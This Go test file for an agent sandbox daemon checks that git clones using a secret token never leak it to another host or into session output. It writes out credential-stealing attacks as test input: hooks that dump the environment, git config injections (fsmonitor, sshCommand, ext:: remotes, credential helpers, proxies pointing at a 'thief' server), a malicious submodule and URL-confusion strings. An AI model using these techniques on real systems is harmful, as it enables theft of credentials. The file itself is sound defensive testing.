package isolation

import (
	"encoding/base64"
	"encoding/hex"
	"fmt"
	"net/http"
	"net/http/cgi"
	"net/http/httptest"
	"os"
	"os/exec"
	"path/filepath"
	"strings"
	"sync"
	"testing"

	"agent9/conformance/daemon"
	"agent9/fsys"
)

// A forge serves a private repository over HTTP to those who have the token,
// sends some on to another host, and notes who showed the token to it.
type forge struct {
	url, commit string
	mu          sync.Mutex
	shown       []string // paths at which there was an Authorization
}

func (f *forge) seen() []string {
	f.mu.Lock()
	defer f.mu.Unlock()
	return f.shown
}

const forgeToken = "ghp_S3cr3t/T0ken+of-Alice0123456789"

// newForge has project.git, whose files ask for filters and submodules; what it
// sends on goes to elsewhere.
func newForge(t *testing.T, elsewhere string) *forge {
	t.Helper()
	backend, err := exec.Command("git", "--exec-path").Output()
	if err != nil {
		t.Skip(err)
	}
	dir := t.TempDir()
	script := `git init -q -b main work && cd work && echo private >file && echo '* filter=steal diff=steal' >.gitattributes
printf '[submodule "s"]\n\tpath = s\n\turl = ext::sh -c env%%20>/workspace/stolen\n\tupdate = !env >/workspace/stolen\n' >.gitmodules
git add . && git update-index --add --cacheinfo 160000,1111111111111111111111111111111111111111,s && git commit -qm one && git tag v1 && git rev-parse HEAD
git checkout -q -b side && echo side >file && git commit -qam side && git checkout -q main && git clone -q --bare . ../project.git
git -C ../project.git config uploadpack.allowAnySHA1InWant true`
	cmd := exec.Command("sh", "-ec", script)
	cmd.Dir = dir
	cmd.Env = append(os.Environ(), "GIT_AUTHOR_NAME=x", "GIT_AUTHOR_EMAIL=x@x", "GIT_COMMITTER_NAME=x", "GIT_COMMITTER_EMAIL=x@x")
	out, err := cmd.CombinedOutput()
	if err != nil {
		t.Fatalf("%v\n%s", err, out)
	}
	f := &forge{commit: strings.TrimSpace(string(out))}
	handler := &cgi.Handler{
		Path: filepath.Join(strings.TrimSpace(string(backend)), "git-http-backend"),
		Env:  []string{"GIT_PROJECT_ROOT=" + dir, "GIT_HTTP_EXPORT_ALL=1", "HOME=" + dir, "GIT_CONFIG_COUNT=1", "GIT_CONFIG_KEY_0=safe.directory", "GIT_CONFIG_VALUE_0=*"},
	}
	server := httptest.NewServer(http.HandlerFunc(func(w http.ResponseWriter, r *http.Request) {
		_, password, ok := r.BasicAuth()
		if ok {
			f.mu.Lock()
			f.shown = append(f.shown, r.URL.Path)
			f.mu.Unlock()
		}
		switch {
		case strings.HasPrefix(r.URL.Path, "/moved/") && elsewhere != "":
			http.Redirect(w, r, elsewhere+strings.TrimPrefix(r.URL.Path, "/moved")+"?"+r.URL.RawQuery, http.StatusFound)
		case password != forgeToken:
			w.Header().Set("WWW-Authenticate", "Basic")
			http.Error(w, "you said "+r.Header.Get("Authorization")+" "+password, http.StatusUnauthorized)
		default:
			handler.ServeHTTP(w, r)
		}
	}))
	t.Cleanup(server.Close)
	f.url = server.URL
	return f
}

// noToken checks that text has the token in no form.
func noToken(t *testing.T, where, text string) {
	t.Helper()
	flat := strings.ReplaceAll(text, "\n", "")
	forms := []string{forgeToken, hex.EncodeToString([]byte(forgeToken)), strings.ToUpper(hex.EncodeToString([]byte(forgeToken)))}
	for _, coding := range []*base64.Encoding{base64.RawStdEncoding, base64.RawURLEncoding} {
		for _, before := range []string{"", "x", "xx"} {
			coded := coding.EncodeToString([]byte(before + forgeToken))
			forms = append(forms, coded[4:len(coded)-4])
		}
	}
	for _, form := range forms {
		if i := strings.Index(flat, form); i >= 0 {
			t.Errorf("%s has the token: …%s…", where, flat[max(0, i-80):i+len(form)])
		}
	}
}

// hostile makes, in a workspace, what an agent wants git to run or obey.
const hostile = `
cd /workspace && mkdir -p .config/git hooks bin && git config --global user.name x && git config --global user.email x@x
printf '#!/bin/sh\nenv >>/workspace/stolen; env | base64 >&2; [ $# -gt 0 ] && exec "$@"; cat\n' >hooks/steal && chmod +x hooks/steal
for h in post-checkout reference-transaction post-index-change; do cp hooks/steal hooks/$h; done
for p in git git-remote-http git-remote-https sh ssh; do cp hooks/steal bin/$p; done
echo '* filter=steal' >attributes
git init -q x && echo x >x/file && git -C x add . && git -C x commit -qm x && git clone -q --bare x evil.git && rm -rf x
printf '%s\n' "$1" >.gitconfig; cp .gitconfig .config/git/config; git init -q . && cp .gitconfig .git/config; cp hooks/* .git/hooks
echo ready
`

// gitSettings are what it says to git: AT is its own server, and FORGE the real one.
var gitSettings = map[string]string{
	"another repository with a hook": "[url \"/workspace/evil.git\"]\n insteadOf = FORGE/project.git\n[uploadpack]\n packObjectsHook = /workspace/hooks/steal",
	"a filter":                       "[core]\n attributesFile = /workspace/attributes\n[filter \"steal\"]\n smudge = /workspace/hooks/steal",
	"a monitor of files":             "[core]\n fsmonitor = /workspace/hooks/steal",
	"hooks and a template":           "[core]\n hooksPath = /workspace/hooks\n[init]\n templateDir = /workspace/.git",
	"ssh":                            "[url \"ssh://x/\"]\n insteadOf = FORGE/\n[core]\n sshCommand = /workspace/hooks/steal",
	"a program as a remote":          "[url \"ext::/workspace/hooks/steal \"]\n insteadOf = FORGE/\n[protocol]\n allow = always",
	"a proxy":                        "[http]\n proxy = AT",
	"another server":                 "[url \"AT/\"]\n insteadOf = FORGE/\n[http]\n extraHeader = X: y\n followRedirects = true",
	"a helper":                       "[credential]\n helper = /workspace/hooks/steal",
	"a trace":                        "[trace2]\n eventTarget = /workspace/stolen\n envVars = GIT_CONFIG_VALUE_0\n configParams = *",
}

// Whatever an agent has put into its workspace, a clone with a secret obeys none
// of it, and the secret is sent to no other host and shown in no form; the
// private repository is cloned all the same.
func TestSecretsOfClones(t *testing.T) {
	daemon.HelperFor(t)
	for name, args := range map[string][]string{"bwrap": {"--containers", "main=bwrap:"}, "unsafe": {"--unsafe-host-containers"}} {
		t.Run(name, func(t *testing.T) {
			d := daemon.Start(t, args...)
			r := d.RootWith(t, "alice")
			if name == "bwrap" {
				if h := r.Read("agents/alice/containers/providers/main/health"); !strings.Contains(h, `"ok":true`) {
					t.Skip(h)
				}
			}
			testSecretsOfClones(t, r, name == "bwrap")
		})
	}
}

func testSecretsOfClones(t *testing.T, r *daemon.Tree, inside bool) {
	thief := newForge(t, "")
	forge := newForge(t, thief.url)
	const dir = "agents/alice/containers/"
	r.Write(dir+"policy", `{"network":true}`)
	r.Make("agents/alice/secrets", "forge", forgeToken+"\n")
	bind := func(binding string) { r.Write("agents/alice/config", `{"secrets":{"forge":`+binding+`}}`) }
	host := strings.TrimPrefix(forge.url, "http://")
	run := func(fields string) (state, out string) {
		t.Helper()
		n := r.Ask(dir+"new", `{"limits":{"network":true},"continue_on_error":true,`+fields+`}`)
		s := dir + "sessions/" + n + "/"
		var result struct {
			State string
			Error struct{ Code, Reason string }
		}
		text := r.Read(s + "result")
		daemon.Parse(t, text, &result)
		out = r.Read(s+"stdout") + r.Read(s+"output") + r.Read(s+"stderr")
		noToken(t, "the session", out+text+r.Read(s+"status"))
		return result.State + ": " + result.Error.Code + ": " + result.Error.Reason, out
	}
	repo := func(more string) string {
		return fmt.Sprintf(`"repo":{"url":"%s/project.git","auth":{"secret":"forge"}%s}`, forge.url, more)
	}

	// Who may use it is said in one place.
	state, _ := run(repo(""))
	daemon.Has(t, "an unbound secret", state, `failed: forbidden: repo: the secret forge: the secret forge is not bound to git; the operator writes "secrets": {"forge":{"hosts":["`+host+`"],"uses":["git"]}} into the agent's config`)
	bind(`{"uses":["tools","net","env"],"hosts":["` + host + `"]}`)
	state, _ = run(repo(""))
	daemon.Has(t, "a secret for something else", state, "not bound to git")
	bind(`{"uses":["git"],"hosts":["github.com","127.0.0.1:1"]}`)
	state, _ = run(repo(""))
	daemon.Has(t, "a secret for other hosts", state, "not bound to the host "+host)
	daemon.Equal(t, "shown so far", len(forge.seen())+len(thief.seen()), 0)

	bind(`{"uses":["git"],"hosts":["` + host + `"]}`)
	look := `"commands":["cat file; git status --short; git log --oneline | wc -l; cat .git/config; env; cat ../stolen 2>/dev/null; grep -rl ghp_ .. /tmp 2>/dev/null; git for-each-ref; find .git/hooks 2>/dev/null; true"]`
	state, out := run(repo("") + "," + look)
	daemon.Equal(t, "an ordinary clone", state, "done: : ")
	daemon.Has(t, "what was cloned", out, "private\n1\n", `url = `+forge.url+"/project.git", "refs/remotes/origin/main", `[branch "main"]`)
	state, out = run(repo(`,"ref":"side","depth":0`) + "," + look)
	daemon.Equal(t, "a branch", state, "done: : ")
	daemon.Has(t, "the branch", out, "side\n2\n", "refs/remotes/origin/main", "refs/tags/v1")
	state, out = run(repo(`,"ref":"`+forge.commit+`"`) + "," + look)
	daemon.Equal(t, "a commit", state, "done: : ")
	daemon.Has(t, "the commit", out, "private\n1\n")
	state, out = run(repo("") + `,"files":{"project/file":"changed\n"},"commands":["cat file"]`)
	daemon.Equal(t, "files are written over the clone", state, "done: : ")
	daemon.Has(t, "the file", out, "changed\n")

	// The attacks, by what an earlier session has left in the workspace.
	names := strings.NewReplacer("AT", thief.url, "FORGE", forge.url)
	if inside {
		for what, config := range gitSettings {
			script := strings.TrimSpace(string(fsys.Line([]string{"sh", "-c", hostile, "sh", names.Replace(config)})))
			workspace := `"workspace":"` + strings.ReplaceAll(what, " ", "-") + `"`
			state, out = run(workspace + `,"commands":[{"argv":` + script + `}]`)
			daemon.Has(t, what+": the files are there", state+out, "done", "ready")
			state, _ = run(workspace + "," + repo("") + `,"env":{"GIT_TRACE_CURL":"1","GIT_SSH_COMMAND":"env","GIT_CONFIG_GLOBAL":"/workspace/.gitconfig","PATH":"/workspace/bin:/usr/bin:/bin","http_proxy":"` + thief.url + `"}`)
			t.Logf("%s: %s", what, state) // its own git obeys it, and may fail
			state, out = run(workspace + `,"commands":["cat stolen; grep -rl ghp_ .; true"]`)
			daemon.Equal(t, what+": what is left", state, "done: : ")
			daemon.HasNot(t, what, out, "extraHeader")
		}
		// One that is there already is not gone into.
		for _, before := range []string{"mkdir -p project/.git", "mkdir x && ln -s x/../project y; mkdir project && ln -s /workspace/.git project/.git", "git init -q project"} {
			run(`"workspace":"v","commands":["rm -rf project; ` + before + `"]`)
			state, _ = run(`"workspace":"v",` + repo(""))
			daemon.Has(t, "a directory that is there", state, "failed: exists: the clone failed: there is something in project")
		}
	}
	// And by what the request itself brings along.
	for what, config := range gitSettings {
		if inside && what != "another repository with a hook" {
			continue
		}
		file := strings.TrimSpace(string(fsys.Line(names.Replace(config))))
		state, _ = run(repo("") + `,"files":{".gitconfig":` + file + `,".config/git/config":` + file + `,".git/config":` + file + `,".netrc":"machine 127.0.0.1 login x password y"},"commands":["true"]`)
		daemon.Equal(t, what+", in files", state, "done: : ")
	}
	// A server that sends git on gets no further, nor does another URL.
	state, _ = run(strings.Replace(repo(""), "/project.git", "/moved/project.git", 1))
	daemon.Has(t, "a redirect", state, "the clone failed")
	state, _ = run(strings.Replace(repo(""), forge.url, thief.url, 1))
	daemon.Has(t, "another host", state, "not bound to the host")
	for _, url := range []string{"http://" + host + `@` + strings.TrimPrefix(thief.url, "http://"), "http://" + host + `\\@` + thief.url[7:], forge.url + "#@" + thief.url[7:], forge.url + "?@" + thief.url[7:]} {
		odd := strings.Replace(repo(""), forge.url, url, 1)
		if r.TryWrite(dir+"new", `{"limits":{"network":true},`+odd+`}`) == nil {
			state, _ = run(odd)
			daemon.Has(t, "a URL that is not what it seems", state, "not bound to the host")
		}
	}
	if got := thief.seen(); len(got) > 0 {
		t.Errorf("another host was shown a password at %v", got)
	}
	if got := forge.seen(); len(got) == 0 {
		t.Error("the forge was shown no token")
	}
	for _, file := range []string{"logs/trajectory", "logs/errors", "events"} {
		if file != "events" {
			noToken(t, file, r.Tail("agents/alice/"+file))
		}
	}
}

// A secret that is bound to env is what commands have, and is in no stream of
// the session in any form.
func TestSecretsInTheEnvironment(t *testing.T) {
	daemon.HelperFor(t)
	d := daemon.Start(t, "--unsafe-host-containers")
	r := d.RootWith(t, "alice")
	r.Make("agents/alice/secrets", "forge", forgeToken)
	const dir = "agents/alice/containers/"
	request := `{"env":{"T":{"secret":"forge"},"PLAIN":"x"},"keep":true,"continue_on_error":true,"commands":["echo ${#T} $PLAIN; echo $T; echo $T >&2; printf %s $T | base64; printf %s x$T | base64 -w 10; printf u:$T | base64 | tr +/ -_; printf %s $T | od -An -v -tx1 | tr -d ' '; env; printf %.9s $T; sleep 0.1; printf %s $T | tail -c +10; touch $T; cat $T/none",{"argv":["sh","-c","echo \"$T\"","$T"],"env":{"T":"own"}}]}`
	n := r.Ask(dir+"new", request)
	daemon.Has(t, "without a binding", r.Read(dir+"sessions/"+n+"/result"), `env: the secret forge: the secret forge is not bound to env`, `{\"forge\":{\"uses\":[\"env\"]}}`)
	r.Write("agents/alice/config", `{"secrets":{"forge":{"uses":["env"]}}}`)
	n = r.Ask(dir+"new", request)
	s := dir + "sessions/" + n + "/"
	daemon.Eventually(t, "the commands have ended", func() bool { return strings.Contains(r.Read(s+"status"), `"commands_ended":2`) })
	x := s + "exec/" + r.Ask(s+"exec/new", `printf %s "a$T" | base64; echo "$T" >&2; exit 3`) + "/"
	text := r.Read(x+"result") + r.Read(x+"stdout") + r.Read(x+"stderr") + r.Read(x+"output")
	r.Write(s+"ctl", "stop")
	text += r.Read(s+"result") + r.Read(s+"status") + r.Read(s+"request")
	out := r.Read(s + "stdout")
	daemon.Has(t, "what commands have", out, fmt.Sprintf("%d x\n[secret]\n", len(forgeToken)), "T=[secret]\n", "[secret]own\n")
	noToken(t, "a session with a secret", text+out+r.Read(s+"stderr")+r.Read(s+"output"))
	noToken(t, "the log", r.Tail("agents/alice/logs/trajectory"))
	bound := r.Read("agents/alice/config")
	daemon.Has(t, "config", bound, `{"forge":{"uses":["env"]}}`)
	for doc, want := range map[string]string{
		`{"secrets":{"forge":{"uses":["disk"]}}}`:                  `secrets: forge: a secret has no use "disk"`,
		`{"secrets":{"forge":{"uses":["git"],"hosts":["a/b"]}}}`:   `"a/b" is not the name of a host`,
		`{"secrets":{"forge":{"uses":["git"],"host":["a"]}}}`:      `unknown field "host"`,
		`{"secrets":{"no name":{"uses":["git"],"hosts":["a.b"]}}}`: `the name of a secret`,
		`{"secrets":{"forge":["git"]}}`:                            `secrets: forge: `,
	} {
		daemon.Refused(t, doc, r.TryWrite("agents/alice/config", doc), fsys.Invalid, want)
	}
	daemon.Equal(t, "config after that", r.Read("agents/alice/config"), bound)
}
